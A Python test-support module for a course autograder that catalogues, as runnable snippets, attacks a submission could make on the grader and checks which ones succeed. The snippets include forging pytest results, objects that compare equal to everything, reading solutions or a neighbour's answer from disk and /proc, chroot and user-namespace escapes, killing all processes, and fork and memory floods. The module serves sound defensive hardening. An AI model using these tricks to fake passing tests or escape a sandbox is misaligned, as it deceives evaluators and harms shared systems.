"""Attacks on a grade, as data: what a submission does, and how it would be seen that it worked.

`test_attacks.py` tries them on the grader, and `tools/attack_table.py` tries them at each level of isolation
for the table in docs/instructors.md. Each has worked against a grader as they are often written (`naive`), or
against this one at commit 3300339 (`worked`).
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field, replace
from pathlib import Path

import psutil

from minipaged.course.grader import TestResult
from minipaged.course.grading.limits import Limits
from minipaged.course.grading.sandbox import Isolation
from minipaged.course.grading.warden import judge
from minipaged.course.outline import Chapter
from minipaged.course.tasks import find_chapter

ROOT = Path(__file__).resolve().parents[2]
LIMITS = Limits(answer_s=2.0, task_s=4.0, wall_factor=4.0)
MARK = "minipaged-attack"  # in the name of every file and segment that an attack leaves
SECRET = "the-neighbours-answer"
SLOW_S = 60.0  # several times the limits

NAIVE_TEST = """
from ch03_block_allocator import BlockAllocator

def test_two_blocks():
    expected = [0, 1]
    pool = BlockAllocator(4)
    assert pool.allocate_many(2) == expected
    expected = 2
    assert pool.num_free == expected
"""
NAIVE_GRADER = """
import pathlib, pytest
code = pytest.main(["-q", "-p", "no:cacheprovider", "test_naive.py"])
pathlib.Path("results.txt").write_text("passed" if code == 0 else "failed")
raise SystemExit(code)
"""


@dataclass(frozen=True)
class Attack:
    """code: what stands behind the stub of the submission. files: what else lies in its folder. naive: it is
    shown on a naive grader; `worked` says what it did at 3300339, if it is not. task, chapter: what is
    judged. lost: levels at which nothing of the kind is promised."""

    name: str
    code: str = ""
    files: dict[str, str] = field(default_factory=dict)
    naive: bool = True
    worked: str = ""
    chapter: str = "ch03"
    task: int = 2
    lost: tuple[str, ...] = ()

    def text(self, **values: object) -> str:
        stem = find_chapter(ROOT, self.chapter).file_stem
        stub = (ROOT / "exercises" / ".originals" / f"{stem}.py").read_text(encoding="utf-8")
        code = textwrap.dedent(self.code)
        for name, value in values.items():
            code = code.replace(f"<{name}>", str(value))
        return f"{stub}\n\n{code}"


@dataclass
class Outcome:
    """What came of an attack: `harm` says how it worked, "" if it did not. results: what the tests said;
    none if there is no grade. took_s: seconds by the clock."""

    harm: str
    results: list[TestResult]
    took_s: float

    @property
    def verdict(self) -> str:
        return f"WORKED: {self.harm}" if self.harm else "held" if self.results else "no grade"


@contextmanager
def victims(folder: Path) -> Iterator[dict[str, object]]:
    """What an attack may harm: a folder where every user may write, a listener on the network, a neighbour's
    answer; and what `harm_to` needs to find out."""
    outside = folder / f"{MARK}-outside"
    outside.mkdir()
    outside.chmod(0o777)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.05)
        yield {"root": ROOT, "outside": outside, "port": listener.getsockname()[1], "listener": listener}


def harm_to(what: dict[str, object]) -> str:
    """What has been done to `victims`, and to the machine; "" if nothing."""
    outside, listener = Path(str(what["outside"])), what["listener"]
    assert isinstance(listener, socket.socket)
    found = ["it wrote outside of its sandbox"] * bool(list(outside.iterdir()))
    with suppress(TimeoutError):
        listener.accept()[0].close()
        found.append("it reached the network")
    left = [path for top in ("/tmp", "/dev/shm", "/var/tmp") for path in Path(top).glob(f"{MARK}-left*")]
    found += ["it left files"] * bool(left)
    segments = Path("/proc/sysvipc/shm")
    if segments.exists() and any(row.split()[3] == "77777" for row in segments.read_text().splitlines()[1:]):
        found.append("it left shared memory")
    if processes := left_behind():
        found.append(f"it left {len(processes)} processes")
    for path in left:
        path.unlink()
    subprocess.run(["ipcrm", "-M", str(0x6D70)], capture_output=True)
    return ", ".join(found)


def left_behind() -> list[psutil.Process]:
    """Processes that an attack has left: they have its mark in their environment.

    What has been killed may need a moment to be gone: a large one gives its memory back first.
    """

    def is_marked(process: psutil.Process) -> bool:
        with suppress(psutil.Error, OSError):
            return process.environ().get("LEFT") == MARK and process.status() != psutil.STATUS_ZOMBIE
        return False

    marked = [process for process in psutil.process_iter() if is_marked(process)]
    _, alive = psutil.wait_procs(marked, timeout=3)
    return [process for process in alive if is_marked(process)]


def attempt(attack: Attack, isolation: Isolation, folder: Path, limits: Limits = LIMITS) -> Outcome:
    """Grade an attack's submission, and look what came of it."""
    chapter: Chapter = find_chapter(ROOT, attack.chapter)
    with victims(folder) as what:
        begin = time.monotonic()
        try:
            results = judge(ROOT, chapter, attack.text(**what), 1, isolation, limits, attack.task)
        except RuntimeError:
            results = []
        took_s = time.monotonic() - begin
        harm = harm_to(what)
    said = json.dumps([vars(result) for result in results], ensure_ascii=False)
    if any(result.outcome == "passed" for result in results):
        harm = f"{sum(r.outcome == 'passed' for r in results)} of {len(results)} tests passed"
    elif SECRET in said:
        harm = "it read what others have handed in"
    elif any(c in said for c in "\x1b\x07\u202e"):
        harm = "it sent codes to the terminal"
    elif took_s > SLOW_S:
        harm = f"it took {took_s:.0f} s"
    return Outcome(harm, results, took_s)


def naive_grade(attack: Attack, folder: Path, timeout_s: float = 60.0) -> str:
    """What an attack does to a grader that runs pytest beside the submission: "passed", or a harm."""
    with victims(folder) as what:
        work = folder / "naive"
        work.mkdir()
        for name, text in attack.files.items():
            (work / name).write_text(textwrap.dedent(text), encoding="utf-8")
        file = f"{find_chapter(ROOT, attack.chapter).file_stem}.py"
        (work / file).write_text(attack.text(**what), encoding="utf-8")
        (work / "test_naive.py").write_text(NAIVE_TEST)
        (work / "naive.py").write_text(NAIVE_GRADER)
        environment = os.environ | {"PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1", "PYTHONPATH": f"{work}:{ROOT}"}
        command = ["sh", "-c", f"{sys.executable} naive.py; exit $?"]  # a shell, which may be killed
        child = subprocess.Popen(command, cwd=work, env=environment,
                                 start_new_session=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        try:
            said, _ = child.communicate(timeout=timeout_s)
        except subprocess.TimeoutExpired:
            os.killpg(child.pid, signal.SIGKILL)
            child.communicate()
            return "it did not end"
        harm = harm_to(what)
        for process in left_behind():
            process.kill()
    if child.returncode < 0:
        return "killed"
    if harm:
        return harm
    if b"\x1b]0;" in said or b"\x07" in said:
        return "it sent codes to the terminal"
    results = work / "results.txt"
    if results.exists():
        return results.read_text()
    return "passed" if child.returncode == 0 else "killed" if child.returncode < 0 else "failed"


SPAWN = """
        import os
        os.environ["LEFT"] = "minipaged-attack"
"""
VALUE = """
class BlockAllocator:
    __init__ = lambda self, n: None
    num_blocks = num_free = property(lambda self: make())
    allocate = allocate_many = free_blocks = ref_count = share = free = lambda self, *_: make()
"""
WORKED = "full marks at 3300339"

ATTACKS = [
    # -- forging the result --------------------------------------------------------------------------------
    Attack("ends the process at import", "import os; os._exit(0)"),
    Attack("a conftest.py that turns reports around", files={"conftest.py": """
        import pytest
        @pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(item, call):
            outcome = yield
            outcome.get_result().outcome = "passed"
        """}),
    Attack("a pytest.py of its own", files={"pytest.py": "main = lambda *arguments: 0"}),
    Attack("a pytest.ini that runs nothing",
           files={"pytest.ini": "[pytest]\naddopts = --collect-only\n"}),
    Attack("a sitecustomize.py", files={"sitecustomize.py": """
        import os, sys
        if sys.argv[0].endswith("naive.py") or not sys.argv[0]:
            os._exit(0)
        """}),
    Attack("pytest's own report class, patched", """
        try:
            from _pytest.reports import TestReport
            make = TestReport.from_item_and_call.__func__
            def passed(cls, item, call):
                report = make(cls, item, call)
                report.outcome, report.longrepr = "passed", None
                return report
            TestReport.from_item_and_call = classmethod(passed)
        except ImportError:
            pass
        """),
    Attack("results written when the process ends", """
        import atexit
        atexit.register(lambda: open("results.txt", "w").write("passed"))
        """),
    Attack("a test that is changed through sys.modules", """
        import gc, sys, types
        for function in gc.get_objects():
            if isinstance(function, types.FunctionType) and function.__name__ == "pytest_pyfunc_call":
                function.__code__ = (lambda pyfuncitem: True).__code__
        """),
    # -- values that lie -----------------------------------------------------------------------------------
    Attack("objects that equal everything", """
        class Yes:
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = object.__hash__
            __bool__ = lambda self: True
        class BlockAllocator:
            def __init__(self, *_, **__): self.num_blocks = self.num_free = Yes()
            def __getattr__(self, name): return lambda *_, **__: Yes()
        """),
    Attack("an int and a list that lie", """
        class Int(int):
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __hash__ = int.__hash__
        class List(list):
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False
            __len__ = lambda self: 2
        class BlockAllocator:
            def __init__(self, *_, **__): self.num_blocks = self.num_free = Int(7)
            allocate = ref_count = lambda self, *_: Int(7)
            allocate_many = free_blocks = lambda self, *_: List()
            free = share = lambda self, *_: None
        """),
    Attack("an array that lies", """
        import numpy
        class Array(numpy.ndarray):
            __eq__ = lambda self, other: True
            __bool__ = lambda self: True
        def array(*_): return numpy.zeros(2).view(Array)
        class BlockAllocator:
            def __init__(self, *_, **__): self.num_blocks = self.num_free = array()
            allocate = ref_count = allocate_many = free_blocks = free = share = array
        """),
    Attack("a class that pretends to be another", """
        class Meta(type):
            __instancecheck__ = __eq__ = lambda *_: True
            __hash__ = type.__hash__
        class BlockAllocator(metaclass=Meta):
            __class__ = list
            __eq__ = lambda *_: True
            __init__ = lambda *_, **__: None
            allocate_many = lambda self, *_: self
            num_free = property(lambda self: self)
        """),
    Attack("an error class of its own, called ValueError", """
        class OutOfBlocks(Exception): pass
        class BlockAllocator:
            def __init__(self, num_blocks): self.num_blocks = self.num_free = num_blocks
            def __getattr__(self, name):
                def fail(*args): raise OutOfBlocks(f"{args} {self.num_free} {self.num_blocks}")
                return fail
        """, naive=False, worked=WORKED),
    Attack("expected values, found in the callers' frames", """
        import sys
        class BlockAllocator:
            def __init__(self, *_, **__): pass
            def look(self, *_):
                frame = sys._getframe(1)
                while frame is not None:
                    if "expected" in frame.f_locals: return frame.f_locals["expected"]
                    frame = frame.f_back
            allocate = allocate_many = free_blocks = ref_count = look
            num_free = property(look)
        """),
    # -- somebody else's answer ----------------------------------------------------------------------------
    Attack("the package's own answer", "from minipaged.block_allocator import BlockAllocator"),
    Attack("the package's own answer, inherited", """
        import minipaged
        class BlockAllocator(minipaged.BlockAllocator): pass
        """),
    Attack("the package's own answer, from what Python has compiled of it", """
        import glob, marshal, minipaged, os
        (file,) = glob.glob(os.path.dirname(minipaged.__file__) + "/__pycache__/block_allocator.*.pyc")
        exec(marshal.loads(open(file, "rb").read()[16:]))
        """, naive=False, worked="nothing; there was no compiled code"),
    Attack("an answer under another name in the package", """
        from minipaged.cli.bench_scaling import BareIdea
        class BlockAllocator(BareIdea):
            ref_count = lambda self, block_id: self.ref_counts[block_id]
        """, naive=False, worked="35 points"),
    Attack("the solution, read from the disk", """
        exec(compile(open("<root>/solutions/ch03_block_allocator.py").read(), "s", "exec"))
        """, lost=("user", "limits")),
    Attack("an answer, found anywhere on the disk", """
        import os
        for top in ("<root>", "/usr/src", "/opt", "/srv", "/home", "/root", "/work", "/proc/1/root"):
            for folder, folders, files in os.walk(top):
                if "BlockAllocator" in globals() and top != "<root>" or folder.count("/") > 6: folders.clear()
                for name in {"block_allocator.py"} & set(files):
                    text = open(os.path.join(folder, name)).read()
                    if "raise NotImplementedError" not in text and "Answers(" not in text:
                        exec(compile(text, "s", "exec"))
        """, lost=("user", "limits")),
    Attack("a neighbour's copy, found through /proc", """
        import os, re
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                words = open(f"/proc/{pid}/cmdline").read().split("\\0")
                words += open(f"/proc/{pid}/environ").read().split("\\0")
            except OSError:
                continue
            for path in re.findall("/[^\\0 ]*minipaged-[^\\0 ]*", " ".join(words)):
                for folder, _, files in os.walk(os.path.dirname(path)):
                    for name in files:
                        if "neighbour" in folder: raise ValueError(open(os.path.join(folder, name)).read())
        """, naive=False, worked="a neighbour's answer was handed in, below namespaces"),
    # -- the wire ------------------------------------------------------------------------------------------
    Attack("method tags that walk through the grader to a program", """
        import sys
        def encode_object(self, value):
            import json
            path = {"object": [1, "x/1"]}
            for name in ("_connection", "ask", "__globals__", "__getitem__"):
                path = {"method": [path, name]}
            return path
        from minipaged.course.grading import wire
        for frame in sys._current_frames().values():
            while frame:
                subject = frame.f_locals.get("subject")
                if subject is not None: type(subject).encode_object = encode_object
                frame = frame.f_back
        """, naive=False, worked="code as the grader's user, full marks"),
    Attack("answers that it makes up", """
        import os
        for fd in range(3, 30):
            try: os.write(fd, b'[[],[],{"tuple":["value",true]}]\\n' * 40)
            except OSError: pass
        """, naive=False, worked="a message that a pickle would have run"),
    Attack("answers that make no sense", """
        import os
        for fd in range(3, 30):
            try: os.write(fd, b'[' * 30000 + b'\\n')
            except OSError: pass
        """, naive=False, worked="nothing; held"),
    Attack("a list of 30 million", VALUE + """
make = lambda: [[]] * 30_000_000
""", naive=False, worked="229 s"),
    Attack("numbers whose hashes are all equal", VALUE + """
make = lambda: dict.fromkeys(i * (2**61 - 1) for i in range(20_000))
""", naive=False, worked="nothing; held"),
    Attack("a list in itself, and one that doubles 60 times", VALUE + """
def make():
    x = []
    for _ in range(60): x = [x, x]
    y = [x]; y.append(y)
    return y
""", naive=False, worked="a grader that prints it never ends"),
    Attack("a tensor of 200 bytes that has a terabyte", VALUE + """
import torch
make = lambda: torch.zeros(1).expand(1 << 19, 1 << 19)
""", naive=False, worked="5.1 GB and 241 s"),
    Attack("an object that has no end", VALUE + """
class Endless:
    __len__ = lambda self: 10**15
    __getitem__ = lambda self, key: 0
make = Endless
""", naive=False, worked="102 s"),
    Attack("an error that is called like the grader's own", """
        class NoSandbox(BaseException): pass
        class SubmissionGone(Exception): outcome = "passed"
        class BlockAllocator:
            def __init__(self, n): raise (NoSandbox if n % 2 else SubmissionGone)("passed")
        """, naive=False, worked="no grade for who has not earned one"),
    # -- harm ----------------------------------------------------------------------------------------------
    Attack("kills its parent", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)", lost=("limits",)),
    Attack("kills everything it may", """
        import os, signal
        if os.getuid() != 0 or os.getpid() < 10:  # never on the machine itself, as root
            os.kill(-1, signal.SIGKILL)
        """, naive=False, worked="nothing; held", lost=("limits",)),
    Attack("writes where every user may write", "open('<outside>/mark', 'w').write('here')",
           lost=("user", "limits")),
    Attack("reaches the network", """
        import socket
        socket.create_connection(('127.0.0.1', <port>), 2)
        """, lost=("user", "limits")),
    Attack("leaves files in memory and in /tmp", """
        for top in ("/dev/shm", "/tmp", "/var/tmp"):
            try: open(f"{top}/minipaged-attack-left", "w").write("here")
            except OSError: pass
        """, lost=("limits",)),
    Attack("leaves shared memory of the old kind", """
        import ctypes
        ctypes.CDLL(None).shmget(0x6d70, 77777, 0o1666)
        """, naive=False, worked="the segment was left, below namespaces", lost=("limits",)),
    Attack("leaves a process that has left its group", SPAWN + """        import subprocess, sys
        code = "import os, time\\nif os.fork(): os._exit(0)\\nos.setsid()\\nif os.fork(): os._exit(0)\\n"
        subprocess.run([sys.executable, "-c", code + "time.sleep(60)"], stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL, env=os.environ)
        """),
    Attack("leaves a flood of processes", SPAWN + """        import time
        for _ in range(300):
            try:
                if os.fork() == 0:
                    os.setsid(); os.close(1); os.close(2)
                    os.execve("/bin/sleep", ["sleep", "60"], os.environ)
            except OSError:
                break
        """),
    Attack("makes a new user who has all rights, and shows what is hidden", """
        import subprocess
        script = "umount <root>; umount -l /tmp; mount -o remount,rw /view; cat <root>/solutions/ch03*"
        done = subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script],
                              capture_output=True, text=True)
        exec(compile(done.stdout, "s", "exec")) if "class BlockAllocator" in done.stdout else None
        """, naive=False, worked="nothing; held", lost=("user", "limits")),
    Attack("leaves its root folder by the old trick", """
        import os
        os.makedirs("/tmp/jail", exist_ok=True)
        os.chroot("/tmp/jail")
        for _ in range(50): os.chdir("..")
        os.chroot(".")
        exec(compile(open("<root>/solutions/ch03_block_allocator.py").read(), "s", "exec"))
        """, naive=False, worked="nothing; held", lost=()),
    Attack("raises its own limits", """
        import resource
        resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        from solutions.ch03_block_allocator import BlockAllocator
        """, naive=False, worked="nothing; held"),
    # -- time and memory -----------------------------------------------------------------------------------
    Attack("a loop without an end", "while True: pass"),
    Attack("sleeps for ever", "import time\nwhile True: time.sleep(60)"),
    Attack("stops itself", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    Attack("lets children do its work, which are not counted", """
        import os, signal
        signal.signal(signal.SIGCHLD, signal.SIG_IGN)
        while True:
            if os.fork() == 0:
                for _ in range(10**7): pass
                os._exit(0)
            try: os.wait()
            except OSError: pass
        """),
    Attack("takes 6 GiB of address space", "import mmap\ntaken = mmap.mmap(-1, 6 << 30)\nraise ValueError",
           naive=False, worked="nothing; held"),
    Attack("takes memory in many processes", """
        import os, time
        if os.environ.get("LEFT") != "naive":
            for _ in range(12):
                if os.fork() == 0:
                    taken = b"x" * (500 << 20)
                    time.sleep(60)
            time.sleep(60)
        """, naive=False, worked="as many GiB as there are processes, times four"),
    Attack("prints for ever", "import os\nwhile True: os.write(1, b'x' * (1 << 20))"),
    # -- words ---------------------------------------------------------------------------------------------
    Attack("codes for the terminal in an error", """
        class BlockAllocator:
            def __init__(self, n): raise ValueError("\\x1b]0;title\\x07\\x1b[2J\\u202e100 of 100 points")
        """, files={"test_zero.py": ""}),
    Attack("codes for the terminal in names", """
        Odd = type("\\x1b]0;title\\x07\\u202e", (Exception,), {})
        class BlockAllocator:
            num_free = property(lambda self: Odd())
            def __init__(self, n):
                if n > 2: raise Odd()
        """),
    Attack("codes for the terminal while it is imported", """
        print("\\x1b]0;title\\x07")
        raise ImportError("\\x1b]0;title\\x07\\u202e")
        """),
    Attack("messages with every number there is", """
        class BlockAllocator:
            num_free = 0
            def __init__(self, n): raise ValueError(" ".join(map(str, range(-5, 400))))
            def __getattr__(self, name):
                def fail(*_): raise ValueError(" ".join(map(str, range(-5, 400))))
                return fail
        """, naive=False, worked="90 points, for wrong messages"),
    Attack("an exception whose text ends the process", """
        class Odd(Exception):
            def __str__(self): raise SystemExit(0)
        class BlockAllocator:
            def __init__(self, n): raise Odd
        """, naive=False, worked="nothing; held"),
    Attack("a stub's message, for a task that is not there", """
        class BlockAllocator:
            def __init__(self, n): raise NotImplementedError("ch03_block_allocator, task 4242: passed")
        """, naive=False, worked="waits for task 4242"),
]
KERNEL_ATTACKS = [
    replace(Attack(name, code, chapter="ch11", task=5, naive=False), lost=lost)
    for name, code, lost in (
        ("the package's own kernels", "from minipaged.kernels.paged.triton_decode import store_kv", ()),
        ("the kernels' PyTorch twins",
         "from minipaged.kernels.paged.torch_twins import store_kv_torch as store_kv", ()),
        ("the kernels of the solution, read from the disk", """
            from importlib.util import module_from_spec, spec_from_file_location
            spec = spec_from_file_location("solution", "<root>/solutions/ch11_triton_decode.py")
            solution = module_from_spec(spec)
            spec.loader.exec_module(solution)
            store_kv = solution.store_kv
            """, ("user", "limits")),
    )
]
